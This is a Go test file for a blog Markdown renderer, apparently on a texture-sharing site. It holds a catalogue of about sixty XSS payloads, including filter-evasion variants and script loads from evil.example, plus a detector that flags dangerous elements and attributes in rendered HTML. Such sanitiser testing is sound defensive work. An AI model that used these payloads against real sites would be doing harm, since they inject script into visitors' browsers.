package blog_test

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/texelforge/texelforge/internal/blog"
)

func noEmbeds(int64) (blog.Embed, bool) { return blog.Embed{}, false }

// xssCatalogue is Markdown that tries to run script in a reader's browser.
var xssCatalogue = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"/>`,
	`<IMG SRC="javascript:alert(1);">`,
	`<img src=javascript:alert(1)>`,
	`<img """><script>alert(1)</script>">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<body onload=alert(1)>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](  javascript:alert(1)  )`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	`![x" onerror="alert(1)](https://example.com/a.png)`,
	`![x](https://example.com/a.png "title\" onerror=\"alert(1)")`,
	`[x](https://example.com "\" onmouseover=\"alert(1)")`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<form action="javascript:alert(1)"><button>x</button></form>`,
	`<input onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	"```html\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	`<!--<script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<div><script>alert(1)</div>`,
	`<a href="https://example.com" onclick="alert(1)">x</a>`,
	`<x onclick=alert(1)>x</x>`,
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
	"- [ ] <script>alert(1)</script>",
	"Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
	"## <img src=x onerror=alert(1)> heading",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea><script>alert(1)</script></textarea>",
	"::texture[1]\n<script>alert(1)</script>",
}

var scriptURL = regexp.MustCompile(`(?i)^\s*(javascript|vbscript|data):`)

// dangers lists what in rendered HTML could run script: script-ish
// elements, event handler attributes, style, and URLs with a script or data
// scheme.
func dangers(t *testing.T, rendered string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(rendered))
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "textarea", "noscript", "video", "audio", "marquee":
				found = append(found, "<"+n.Data+">")
			}
			for _, a := range n.Attr {
				switch {
				case strings.HasPrefix(strings.ToLower(a.Key), "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "background", a.Key == "formaction":
					found = append(found, n.Data+"["+a.Key+"]")
				case (a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "xlink:href") && scriptURL.MatchString(a.Val):
					found = append(found, n.Data+"["+a.Key+"="+a.Val+"]")
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return found
}

func TestRenderNeutralisesScript(t *testing.T) {
	if len(xssCatalogue) < 50 {
		t.Fatalf("the catalogue has %d payloads, want at least 50", len(xssCatalogue))
	}
	for _, payload := range xssCatalogue {
		r, err := blog.Render(payload, noEmbeds)
		if err != nil {
			t.Fatalf("%q: %v", payload, err)
		}
		if d := dangers(t, r.HTML); len(d) > 0 {
			t.Errorf("%q rendered %q, which keeps %v", payload, r.HTML, d)
		}
	}
}

// The check above must see what it looks for, or it proves nothing.
func TestDangersFindsScript(t *testing.T) {
	for _, h := range []string{`<script>x</script>`, `<img src=x onerror=y>`, `<a href="javascript:x">a</a>`,
		`<a href=" data:text/html,x">a</a>`, `<p style="x">a</p>`, `<svg></svg>`} {
		if len(dangers(t, h)) == 0 {
			t.Errorf("dangers(%q) found nothing", h)
		}
	}
}

func TestRenderKeepsTheMarkdownFeatures(t *testing.T) {
	src := "# Palette rules\n\n## Shading\n\nSome **bold** text.[^n]\n\n### Ramps\n\n- [x] done\n- [ ] to do\n\n" +
		"| a | b |\n|---|---|\n| 1 | 2 |\n\n```go\nfunc main() {}\n```\n\n![stone](/media/blog/a.png)\n\n" +
		"[site](/showcase) and [out](https://example.com)\n\n::texture[7]\n\n::texture[8]\n\n[^n]: A note.\n"
	r, err := blog.Render(src, func(id int64) (blog.Embed, bool) {
		return blog.Embed{Title: "Ruby *Sword*", Username: "alex", ImageURL: "/api/showcase/image/7?v=abc&scale=16"}, id == 7
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`<h2 id="shading">Shading</h2>`, `<h3 id="ramps">Ramps</h3>`, `<strong>bold</strong>`,
		`<input checked="" disabled="" type="checkbox" aria-label="Done">`, `<input disabled="" type="checkbox" aria-label="To do">`,
		`<table>`, `<td>1</td>`, `<pre class="chroma" tabindex="0"><code><span class="kd">func</span>`,
		`<img src="/media/blog/a.png" alt="stone" loading="lazy" decoding="async">`,
		`<a href="/showcase">site</a>`, `<a href="https://example.com" rel="nofollow noreferrer">out</a>`,
		`<a href="/showcase/7"><img src="/api/showcase/image/7?v=abc&amp;scale=16" alt="Ruby *Sword* by alex" loading="lazy" decoding="async" data-texture="7" width="256" height="256"></a>`,
		`<em>Showcase texture 8 is no longer shared.</em>`,
		`<a href="#fn:1" class="footnote-ref" role="doc-noteref">1</a>`, `<li id="fn:1">`,
	} {
		if !strings.Contains(r.HTML, want) {
			t.Errorf("the HTML lacks %s:\n%s", want, r.HTML)
		}
	}
	if strings.Count(r.HTML, "<pre") != 1 {
		t.Errorf("one code block, %d <pre>s:\n%s", strings.Count(r.HTML, "<pre"), r.HTML)
	}
	if got := len(r.TOC); got != 2 || r.TOC[0] != (blog.Heading{ID: "shading", Text: "Shading", Level: 2}) || r.TOC[1].Level != 3 {
		t.Errorf("toc %+v", r.TOC)
	}
	if r.Words < 20 || blog.ReadingMinutes(r) != 1 {
		t.Errorf("%d words, %d minutes", r.Words, blog.ReadingMinutes(r))
	}
}

func TestSlugify(t *testing.T) {
	for title, want := range map[string]string{
		"How to make a Resource Pack!": "how-to-make-a-resource-pack",
		"  Crème brûlée -- 16x16  ":    "creme-brulee-16x16",
		"???":                          "post",
		strings.Repeat("long ", 40):    strings.TrimSuffix(strings.Repeat("long-", 16), "-"),
	} {
		if got := blog.Slugify(title); got != want {
			t.Errorf("Slugify(%q) = %q, want %q", title, got, want)
		}
	}
}
